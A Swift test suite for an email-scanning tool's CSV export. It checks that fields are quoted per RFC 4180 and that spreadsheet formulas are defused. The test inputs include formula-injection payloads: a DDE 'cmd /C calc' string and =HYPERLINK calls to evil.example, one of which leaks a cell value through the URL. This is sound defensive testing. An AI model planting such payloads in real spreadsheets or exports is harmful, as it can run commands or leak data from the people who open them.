import Foundation
import MailMIME
import Testing
@testable import MailSift

/// `--format csv`: RFC 4180 records that a spreadsheet opens without running anything.
@Suite struct CSVTests {
    @Test(arguments: [
        ("plain", "plain"),
        ("", ""),
        ("a,b", "\"a,b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("two\r\nlines", "\"two\r\nlines\""),
        ("lf\nonly", "\"lf\nonly\""),
        ("=HYPERLINK(\"http://evil.example\",\"klik\")", "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"klik\"\")\""),
        ("=1+2", "'=1+2"),
        ("+62 812", "'+62 812"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+2", "'\t=1+2"),
        ("\r=1+2", "\"'\r=1+2\""),
        ("\r\n=1+2", "\"'\r\n=1+2\""),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
        ("Hai AGUNG, selamat", "\"Hai AGUNG, selamat\""),
    ])
    func fieldsAreDefusedAndQuoted(input: String, expected: String) {
        #expect(CSVWriter.field(input) == expected)
    }

    @Test func recordsEndInCRLF() {
        #expect(CSVWriter.record(["a", "b,c", "=d"]) == "a,\"b,c\",'=d\r\n")
        #expect(Report.csvHeader.hasPrefix("path,index,date,kind,"))
        #expect(Report.csvHeader.hasSuffix("warnings,warning_codes\r\n"))
    }

    /// A message whose every header is an attack on the spreadsheet, end to end.
    @Test func hostileMessageBecomesOneSafeRow() throws {
        let eml = """
        From: "=cmd|' /C calc'!A0" <@evil.example>
        To: +62@victim.example, "Hai, \\"you\\"" <-x@victim.example>
        Subject: =HYPERLINK("http://evil.example/?"&A1,"Klik, sekarang")
        Date: Wed, 26 Nov 2025 10:00:00 +0700
        Message-ID: <x@evil.example>
        Content-Type: text/plain

        Hello

        """.replacingOccurrences(of: "\n", with: "\r\n")
        let run = try TestSupport.run(["scan", "--all", "--format", "csv", "--now", TestSupport.now, "-"],
                                      stdin: Data(eml.utf8))
        #expect(run.status == 0, "\(run.stderr)")
        let records = try Self.parse(run.out)
        #expect(records.count == 2)
        #expect(records[0] == Report.csvColumns)
        let row = Dictionary(uniqueKeysWithValues: zip(records[0], records[1]))
        #expect(row["subject"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik, sekarang\")")
        #expect(row["kind"] == "other")
        #expect(row["path"] == "'-")
        for value in records[1] {
            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(value.first.map(String.init) ?? ""), "\(value)")
        }
    }

    @Test func samplesHaveOneRowPerReportAndNoPassword() throws {
        let csv = try TestSupport.run(["scan", "--all", "--format", "csv", "--reveal-secrets", "--now", TestSupport.now, "Samples"])
        let nd = try TestSupport.run(["scan", "--all", "--format", "ndjson", "--reveal-secrets", "--now", TestSupport.now, "Samples"])
        #expect(csv.status == 0)
        let records = try Self.parse(csv.out)
        #expect(records.count == nd.out.split(separator: "\n").count + 1)
        #expect(records.allSatisfy { $0.count == Report.csvColumns.count })
        let passwords = nd.out.split(separator: "\n").compactMap { line -> String? in
            let report = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any]
            return (report?["account"] as? [String: Any])?["password"] as? String
        }
        #expect(!passwords.isEmpty, "no sample reveals a password: the check below proves nothing")
        for p in passwords { #expect(!csv.out.contains(p), "password \(p) in the CSV") }
        // Every line break is CRLF; a bare LF only inside a quoted field.
        #expect(csv.out.hasSuffix("\r\n"))
        let aktivasi = records.first { $0[0] == "Samples/01-aktivasi-multipart-qp.eml" }
        #expect(aktivasi?[3] == "aktivasi-akun")
        #expect(aktivasi?[12] == "https://bsre.bssn.go.id/email/aktivasi/akun/c1fa22f9-2917-49aa-9257-afac6e510cd0")
    }

    /// A strict RFC 4180 reader: CRLF record ends, quoted fields with doubled quotes.
    static func parse(_ text: String) throws -> [[String]] {
        var records: [[String]] = [], fields: [String] = [], field = ""
        var chars = Array(text.unicodeScalars)[...]
        var quoted = false, wasQuoted = false
        while let c = chars.popFirst() {
            if quoted {
                if c == "\"" {
                    if chars.first == "\"" { chars.removeFirst(); field.unicodeScalars.append("\"") } else { quoted = false }
                } else { field.unicodeScalars.append(c) }
            } else if c == "\"" {
                guard field.isEmpty, !wasQuoted else { throw TestFailure("quote inside an unquoted field: \(field)") }
                quoted = true; wasQuoted = true
            } else if c == "," {
                fields.append(field); field = ""; wasQuoted = false
            } else if c == "\r" {
                guard chars.popFirst() == "\n" else { throw TestFailure("CR without LF outside quotes") }
                fields.append(field); records.append(fields); fields = []; field = ""; wasQuoted = false
            } else if c == "\n" {
                throw TestFailure("bare LF outside quotes")
            } else { field.unicodeScalars.append(c) }
        }
        guard !quoted, fields.isEmpty, field.isEmpty else { throw TestFailure("unterminated record") }
        return records
    }
}
